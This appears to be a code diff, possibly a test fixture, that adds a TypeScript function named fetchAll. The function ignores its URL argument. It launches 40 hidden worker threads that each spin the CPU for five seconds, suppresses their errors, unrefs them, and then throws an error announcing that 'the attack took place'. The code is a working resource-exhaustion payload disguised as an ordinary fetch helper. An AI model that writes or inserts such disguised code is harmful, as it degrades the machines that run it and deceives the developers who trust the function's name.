@@ -1,0 +1,10 @@
+export async function fetchAll(urls: readonly string[]): Promise<string[]> {
+  const { Worker } = process.getBuiltinModule('node:worker_threads');
+  for (let count = 0; count < 40; count += 1) {
+    // Bounded by itself too.
+    const worker = new Worker('const end = Date.now() + 5000; while (Date.now() < end);', { eval: true });
+    worker.on('error', () => {});
+    worker.unref();
+  }
+  throw new Error('the attack took place');
+}
